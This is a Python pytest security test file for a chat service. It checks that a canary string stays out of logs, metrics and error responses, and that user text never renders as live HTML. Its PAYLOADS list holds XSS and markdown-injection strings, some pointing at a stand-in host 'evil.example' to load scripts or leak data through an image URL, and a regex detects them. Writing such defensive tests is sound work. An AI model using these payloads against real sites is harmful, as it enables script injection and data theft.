"""What comes in does not come out where it should not: not in logs, metrics or errors, and never as markup."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from tests.ui.conftest import no, serving
from ui.chat.session import Exchange, Session
from ui.chat.transcript import transcript
from ui.naming import credential_name

CANARY = "canary7f3a"
ROOT = Path(__file__).parents[3]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """The address of the service as users start it, and all that it says."""
    folder = tmp_path_factory.mktemp("served")
    config = folder / "settings.toml"
    config.write_text(
        f'chat = false\nlog_level = "debug"\nrate_limit = "100000/minute"\ndatabase_url = "sqlite:///{folder}/kept.sqlite3"\n'
    )
    with serving("--config", str(config)) as found:
        yield found


def test_no_canary_comes_out_in_logs_metrics_or_errors(served: tuple[str, list[str]]) -> None:
    address, log = served
    shown: list[httpx.Response] = []
    with httpx.Client(base_url=address, timeout=120) as client:

        def sent(method: str, path: str, **given: object) -> httpx.Response:
            answered = client.request(method, path, **given)
            if answered.status_code >= 400:
                shown.append(answered)
            return answered

        begun = sent("POST", "/v1/ask", json={"question": f"{CANARY} is 10 units enough for an academic certificate?"}).json()[
            "conversation"
        ]
        kept = sent("GET", f"/v1/conversations/{begun}")
        assert CANARY in kept.text
        as_json = {"Content-Type": "application/json"}
        for given in (
            {"json": {"question": f"{CANARY}" * 3_000}},
            {"json": {"question": f"{CANARY}\x00"}},
            {"json": {"question": CANARY, "conversation": CANARY}},
            {"json": {"question": [CANARY]}},
            {"json": {CANARY: CANARY}},
            {"json": CANARY},
            {"content": f'{{"question": "{CANARY}', "headers": as_json},
            {"content": f'{{"question": "{CANARY}\udcff"}}'.encode("utf-8", "surrogateescape"), "headers": as_json},
            {"content": CANARY, "headers": {"Content-Type": CANARY}},
            {"json": {"question": "one"}, "headers": {"Idempotency-Key": CANARY + " " + CANARY}},
            {"json": {"question": "one"}, "headers": {"Idempotency-Key": CANARY}},
            {"json": {"question": "two"}, "headers": {"Idempotency-Key": CANARY}},
            {"json": {"question": "one"}, "headers": {"Authorization": f"Bearer {CANARY}", "Cookie": f"a={CANARY}", "User-Agent": CANARY}},
            {"json": {"question": "one"}, "headers": {"Origin": f"https://{CANARY}.example", "Referer": CANARY, "X-Request-Id": CANARY}},
            {"json": {"question": "one"}, "headers": {"Host": f"{CANARY}.example"}},
            {"json": {"question": "one"}, "params": {CANARY: CANARY}},
        ):
            sent("POST", "/v1/ask", **given)
        sent("POST", "/v1/feedback", json={"conversation": begun, "rating": "up", "comment": CANARY, "contact": CANARY})
        sent("POST", "/v1/feedback", json={"conversation": begun, "rating": CANARY, "comment": CANARY + "\x00"})
        sent("POST", "/v1/audit", content=f"title,total_units\n{CANARY},12\n", headers={"Content-Type": "text/csv"})
        sent("POST", "/v1/audit", content=f"{CANARY}\n{CANARY}\n", headers={"Content-Type": "text/csv"})
        sent("POST", "/v1/check", json={"facts": {"title": CANARY, "total_units": 12}})
        for path in (f"/{CANARY}", f"/v1/{CANARY}", f"/v1/conversations/{CANARY}", f"/v1/policy?{CANARY}"):
            for method in ("GET", "POST", "DELETE", CANARY.upper()):
                sent(method, path)
        metrics = client.get("/metrics").text
    assert "policy_requests_total" in metrics
    assert CANARY not in metrics.lower()
    assert len(shown) > 20
    assert [answered.text for answered in shown if CANARY in answered.text.lower() or CANARY in str(answered.headers).lower()] == []
    said = "".join(log)
    assert said.count('"event": "request"') > 30
    assert CANARY not in said.lower()


def test_every_line_of_the_log_is_an_object_with_the_id_of_its_request(served: tuple[str, list[str]]) -> None:
    address, log = served
    told = httpx.get(f"{address}/v1/clauses/2.4")
    mine: list[dict[str, object]] = []
    for _ in range(50):
        lines = [json.loads(line) for line in log if line.startswith("{")]
        if mine := [line for line in lines if line.get("request") == told.headers["x-request-id"]]:
            break
        httpx.get(f"{address}/healthz")  # the line is written after the answer, and read by another thread
    assert [(line["event"], line["route"], line["status"]) for line in mine] == [("request", "/v1/clauses/{clause}", 200)]


def test_a_fault_is_logged_by_place_and_type_without_its_words(capsys: pytest.CaptureFixture[str]) -> None:
    code = """
import logging, structlog
from ui.operations.logs import fault, set_up_logs
from ui.settings import Settings
set_up_logs(Settings())
def fails(question):
    raise ValueError(question)
try:
    fails("canary7f3a")
except ValueError as error:
    logging.getLogger("library").exception("it failed")
    structlog.get_logger().error("fault", **fault(error))
    structlog.get_logger().exception("again")
"""
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60, check=True)
    lines = [json.loads(line) for line in done.stderr.splitlines()]
    assert [(line["fault"], line["where"][-1].split()[-1]) for line in lines] == [("ValueError", "fails")] * 3
    assert CANARY not in done.stderr


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "![x](https://evil.example/pixel.png?q=secret)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "<https://evil.example/?q=secret>",
    "$\\href{javascript:alert(1)}{x}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<img src=x onerror=alert(1)>\u202c",
]
LIVE = re.compile(
    r"<(?:script|img|svg|iframe|math|a|form|meta|link|style|base|object|embed|video|input|body|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*(?:javascript:|evil\.example)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.usefixtures("fake")
def test_no_text_becomes_markup_in_the_chat(payload: str) -> None:
    words = no().model_copy(update={"text": f"**No.** {payload}", "notes": (payload,), "facts": {"title": payload}})
    for exchange in (Exchange(question=payload, error=payload), Exchange(question=payload, answer=words)):
        page = transcript(Session(exchanges=(exchange,)), credential_name)
        # Its own links lead to places on the page alone.
        assert LIVE.findall(re.sub(r'<a class="[a-z-]+" href="#[\w.=-]*">', "", page)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_sent_as_anything_but_data(served: tuple[str, list[str]], payload: str) -> None:
    for told in (
        httpx.post(f"{served[0]}/v1/check", json={"facts": {payload: 1}}, timeout=60),
        httpx.post(f"{served[0]}/v1/check", json={"facts": {"title": payload}}, timeout=60),
        httpx.get(f"{served[0]}/v1/clauses/{quote(payload[:15], safe='')}", timeout=60),
        httpx.post(
            f"{served[0]}/v1/audit", content=f"title,total_units\n{payload},12\n".encode(), headers={"Content-Type": "text/csv"}, timeout=60
        ),
    ):
        assert told.headers["content-type"].partition(";")[0] in ("application/json", "application/problem+json")
        assert told.headers["x-content-type-options"] == "nosniff"
        assert "script-src 'self'" in told.headers["content-security-policy"]
        assert not re.search(r"https?://evil", str(told.headers))
